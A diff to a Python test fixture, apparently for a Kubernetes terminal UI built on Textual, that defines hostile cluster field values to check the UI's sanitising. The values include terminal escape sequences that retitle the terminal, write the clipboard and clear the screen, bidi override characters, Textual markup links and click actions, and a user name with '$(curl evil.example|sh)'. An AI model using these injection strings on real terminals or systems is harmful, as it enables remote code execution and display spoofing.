@@ -16,23 +16,25 @@ from __future__ import annotations
 
 import random
 
-from ktopui.sim.world import Node, PodFactory, Template, World, C
+from ktopui.sim.world import C, Node, PodFactory, Template, World
 
 TITLE = "\x1b]0;owned\x07"  # sets the terminal's title
 CLIPBOARD = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # writes the clipboard
 CLEAR = "\x1b[2J"  # clears the screen
-LINK = "[link=https://evil.example]L[/link]"  # Textual markup: a link (and a MarkupError in the picker)
-CLICK = "[@click=app.screenshot('pwned.svg','.')]clickme[/]"  # Textual markup: an action on click
+# Textual markup: a link; an action run on a click; one its parser rejects (MarkupError).
+LINK = "[link=evil.example]L"
+CLICK = "[@click=app.screenshot('pwned.svg','.')]clickme"
+BAD_MARKUP = "[link=mailto:evil@evil.example]mail"
 
 NODE = f"ip-10-66-6-6{CLEAR}\rnode\u202elanretni"
-NAMESPACE = f"ns{TITLE}\u2066evil\x9b31m"  # the hostile pod's; \x9b is the 8-bit CSI
+NAMESPACE = f"ns{TITLE}\u2066evil\x9b31m{BAD_MARKUP}"  # the hostile pod's; \x9b is the 8-bit CSI
 MARKUP_NAMESPACE = CLICK  # what the namespace "sandbox" is called instead
 POD = f"pod{CLIPBOARD}{LINK}\u200b"
 CONTAINER = f"ctr\x9b2J\u202b{CLICK}\x07"
-WAITING_REASON = f"Crash{CLEAR}Loop\rBackOff\u202e[b]bold[/b]"
+WAITING_REASON = f"Crash{CLEAR}Loop\rBackOff\u202e[b]bold"
 VERSION = f"v1.33.1{TITLE}\u202e"
 USER = f"jane{CLEAR} $(curl evil.example|sh)"
-STATUS_MESSAGE = f"etcdserver: {TITLE}leader changed\r{LINK}\u202e {CLICK}"
+STATUS_MESSAGE = f"etcdserver: {TITLE}leader changed\r{LINK}\u202e {CLICK} [link=https://evil.example]L[/link]"
 
 RENAMED_NAMESPACES = {"sandbox": MARKUP_NAMESPACE}
 
